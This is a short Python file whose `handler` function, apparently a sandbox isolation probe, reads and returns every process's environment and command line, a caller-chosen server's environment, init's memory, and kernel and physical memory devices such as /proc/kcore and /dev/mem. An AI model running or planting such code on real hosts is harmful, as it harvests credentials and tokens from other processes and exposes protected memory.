import os


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 16).decode("utf-8", "replace")
    except OSError as error:
        return f"!{error.strerror}"


def handler(payload):
    processes = [name for name in os.listdir("/proc") if name.isdigit()]
    return {
        "processes": sorted(map(int, processes)),
        "environments": {name: read(f"/proc/{name}/environ") for name in processes},
        "commands": {name: read(f"/proc/{name}/cmdline") for name in processes},
        "server": read(f"/proc/{payload['server']}/environ"),
        "memory": read("/proc/1/mem"),
        "kernel": {path: read(path) for path in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem")},
    }
